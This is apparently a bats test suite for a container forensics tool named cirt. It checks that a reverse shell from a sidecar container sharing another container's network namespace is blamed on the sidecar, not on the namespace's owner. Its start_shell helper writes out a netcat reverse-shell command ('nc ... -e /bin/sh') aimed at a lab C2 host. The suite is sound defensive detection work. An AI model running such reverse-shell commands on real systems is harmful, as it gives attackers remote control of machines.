#!/usr/bin/env bats
# attribution.bats: a reverse shell from a sidecar that shares another container's network
# namespace (--network container:X) belongs to the sidecar for every command that reads flows:
# live locate, locate --since on a journal the real cirt watch wrote, triage, and report on
# collect bundles of both containers. X may be named as the namespace's owner, never blamed.
# Fixtures are kj-attr-*; the shell connects only to the lab's C2 host (10.66.0.2:80), one
# connection at a time, each closed by the C2 host's httpd within a minute.

load helpers

X=kj-attr-x
S=kj-attr-side

setup_file() {
	docker rm -f "$X" "$S" >/dev/null 2>&1 || true
	flush_stale_c2_flows
	docker run -d --name "$X" --label cirt.lab=1 --network "$LAB_NET" "$LAB_IMAGE" sleep 1800 >/dev/null
	docker run -d --name "$S" --label cirt.lab=1 --network "container:$X" "$LAB_IMAGE" sleep 1800 >/dev/null
	# network safety: the namespace's route to the C2 host is the lab's
	local pid
	pid=$(container_pid "$X")
	nsenter -t "$pid" -n ip route get "$LAB_C2_IP" | grep -q . || return 1
	printf '%s # the lab C2 host\n' "$LAB_C2_IP" >"$BATS_FILE_TMPDIR/ioc.txt"
}

teardown_file() {
	local p
	p=$(cat "$BATS_FILE_TMPDIR/watch.pid" 2>/dev/null) && kill -TERM "$p" 2>/dev/null || true
	docker rm -f "$X" "$S" >/dev/null 2>&1 || true
}

# established connections of the shared namespace to the C2 host
c2_conns() {
	nsenter -t "$(container_pid "$X")" -n ss -Htnp state established dst "$LAB_C2_IP"
}

# source ports of those connections
c2_sports() {
	c2_conns | awk '{print $3}' | sed 's/.*://' | sort -u
}

# start_shell: a fresh reverse shell in the sidecar (a process of its own cgroup), connected to
# the C2 host; its source port in $SPORT (earlier ones end when the C2 host's httpd gives up)
start_shell() {
	local before i
	before=$(c2_sports)
	docker exec -d "$S" nc "$LAB_C2_IP" 80 -e /bin/sh
	for i in $(seq 1 40); do
		SPORT=$(c2_sports | grep -vxF "$before" | head -1 || true)
		[ -n "$SPORT" ] && return 0
		sleep 0.25
	done
	echo "the reverse shell did not connect" >&2
	return 1
}

@test "attribution: live locate names the sidecar and its shell, X only as the namespace's owner" {
	start_shell
	run_split "$CIRT" --json locate "$LAB_C2_IP:80"
	[ "$status" -eq 1 ]
	f=$(jq -c --argjson p "$SPORT" '[.findings[] | select(.flow.original.sport == $p)][0]' <<<"$output")
	[ "$(jq -r .container.name <<<"$f")" = "$S" ]
	jq -e '.sources | index("socket") and index("conntrack")' <<<"$f" >/dev/null
	[ "$f" != null ]
	[ "$(jq -r .by <<<"$f")" = process ]
	[ "$(jq -r .netns_owner.name <<<"$f")" = "$X" ]
	jq -e '.process.comm == "sh" or .process.comm == "nc"' <<<"$f" >/dev/null
	jq -e '.process.ppid > 0 and (.process.argv | length) > 0' <<<"$f" >/dev/null
	# the kernel's answer: ss names the same process
	c2_conns | grep -q "pid=$(jq -r .process.pid <<<"$f"),"
	# X is never the one that talked
	jq -e --arg x "$X" '[.findings[] | select(.container.name == $x)] | length == 0' <<<"$output" >/dev/null
	jq -e --arg x "$X" --arg s "$S" '[.containers[].name] | (index($x) | not) and index($s)' <<<"$output" >/dev/null
	# the table says so
	run_split "$CIRT" locate "$LAB_C2_IP:80"
	[ "$status" -eq 1 ]
	grep -E "^$S +socket\+conntrack .* process +open now" <<<"$output"
	grep -q "$S ([^)]*in the network namespace of $X)" <<<"$output"
	! grep -qE "^$X " <<<"$output"
}

@test "attribution: conns gives the shell's socket to the sidecar, the namespace's own to X" {
	start_shell
	run_split "$CIRT" --json conns "$X" "$S"
	[ "$status" -eq 0 ]
	jq -e --arg s "$S" --arg x "$X" '.containers[] | select(.name == $s) | [.sockets[] | select(.remote == "10.66.0.2:80" and .state == "ESTABLISHED")] | length > 0 and all(.by == "process" and .netns_owner.name == $x)' <<<"$output" >/dev/null
	jq -e --arg x "$X" '[.containers[] | select(.name == $x) | .sockets[] | select(.remote == "10.66.0.2:80")] | length == 0' <<<"$output" >/dev/null
	# asked about the sidecar alone: the namespace's sockets no process of it holds are not its
	run_split "$CIRT" --json conns "$S"
	[ "$status" -eq 0 ]
	jq -e '[.containers[0].sockets[] | select(.by != "process")] | length == 0' <<<"$output" >/dev/null
}

@test "attribution: locate --since on the real cirt watch's journal does not blame X" {
	J=$BATS_FILE_TMPDIR/journal
	"$CIRT" watch --journal "$J" --max-size 64M >"$BATS_FILE_TMPDIR/watch.out" 2>"$BATS_FILE_TMPDIR/watch.err" &
	echo $! >"$BATS_FILE_TMPDIR/watch.pid"
	for i in $(seq 1 120); do
		grep -q "watching:" "$BATS_FILE_TMPDIR/watch.err" && break
		sleep 0.25
	done
	start_shell
	sport=$SPORT
	for i in $(seq 1 80); do
		grep -q "\"sport\":$sport,\"dst\":\"$LAB_C2_IP\"" "$J"/journal-*.ndjson 2>/dev/null && break
		sleep 0.25
	done
	kill -INT "$(cat "$BATS_FILE_TMPDIR/watch.pid")"
	wait "$(cat "$BATS_FILE_TMPDIR/watch.pid")" || true
	line=$(grep -h "\"sport\":$sport,\"dst\":\"$LAB_C2_IP\"" "$J"/journal-*.ndjson | head -1)
	[ -n "$line" ]
	# the journal's line: an older watcher names the namespace's owner by address, a newer
	# one the sidecar by its process
	jq -e --arg x "$X" --arg s "$S" '(.by == null and .src_container.name == $x) or (.by == "process" and .src_container.name == $s)' <<<"$line" >/dev/null
	run_split "$CIRT" --json locate "$LAB_C2_IP" --since 10m --journal "$J"
	[ "$status" -eq 1 ]
	jq -e '.sources.journal.ok == true and .sources.journal.flows > 0' <<<"$output" >/dev/null
	f=$(jq -c --arg s "$S" --argjson p "$sport" '[.findings[] | select(.flow.original.sport == $p)][0]' <<<"$output")
	[ "$(jq -r .container.name <<<"$f")" = "$S" ]
	jq -e '.sources | index("journal")' <<<"$f" >/dev/null
	[ "$(jq -r .netns_owner.name <<<"$f")" = "$X" ]
	jq -e --arg x "$X" '[.findings[] | select(.container.name == $x)] | length == 0' <<<"$output" >/dev/null
	jq -e --arg x "$X" '[.containers[].name] | index($x) | not' <<<"$output" >/dev/null
}

@test "attribution: triage scores the sidecar for the IOC contact, X not at all" {
	start_shell
	run_split "$CIRT" --json triage --ioc "$BATS_FILE_TMPDIR/ioc.txt" --journal "$BATS_FILE_TMPDIR/journal" --since 1h
	[ "$status" -eq 1 ]
	jq -e --arg s "$S" '.summary[] | select(.container == $s) | [.why[] | select(.kind == "ioc" and .points >= 80)] | length == 1' <<<"$output" >/dev/null
	jq -e --arg x "$X" '[.summary[] | select(.container == $x)] | length == 0' <<<"$output" >/dev/null
	jq -e --arg x "$X" '[.connections[] | select(.container == $x and .ioc != null)] | length == 0' <<<"$output" >/dev/null
	c=$(jq -c --arg s "$S" '[.connections[] | select(.container == $s and .ioc != null)][0]' <<<"$output")
	[ "$(jq -r .by <<<"$c")" = process ]
	[ "$(jq -r .netns_owner <<<"$c")" = "$X" ]
	jq -e '.open_now == true' <<<"$c" >/dev/null
}

@test "attribution: report on collect bundles of X and of the sidecar blames the sidecar only" {
	start_shell
	for who in "$X" "$S"; do
		run_split "$CIRT" collect "$who" --case kj-attr -o "$BATS_TEST_TMPDIR/$who"
		[ "$status" -eq 0 ]
	done
	# X's bundle: the shell's socket is in X's namespace, its holder a process of the sidecar
	jq -e --arg s "$S" '[.sockets[] | select(.remote_address == "10.66.0.2" and .state == "ESTABLISHED") | .owners[0] | select(.outside == true and .container.name == $s)] | length > 0' \
		"$BATS_TEST_TMPDIR/$X/volatile/sockets.json" >/dev/null
	jq -e --arg x "$X" '.netns_owner.name == $x' "$BATS_TEST_TMPDIR/$S/volatile/sockets.json" >/dev/null
	for who in "$X" "$S"; do
		run_split "$CIRT" report "$BATS_TEST_TMPDIR/$who" --ioc "$BATS_FILE_TMPDIR/ioc.txt" --json
		[ "$status" -eq 1 ]
		jq -e --arg s "$S" '.summary[] | select(.container == $s) | [.why[] | select(.kind == "ioc")] | length == 1' <<<"$output" >/dev/null
		jq -e --arg x "$X" '[.summary[] | select(.container == $x)] | length == 0' <<<"$output" >/dev/null
		jq -e --arg x "$X" '[.connections[] | select(.container == $x and .ioc != null)] | length == 0' <<<"$output" >/dev/null
		jq -e --arg s "$S" --arg x "$X" '[.connections[] | select(.container == $s and .ioc != null)] | length > 0 and all(.netns_owner == $x)' <<<"$output" >/dev/null
	done
}
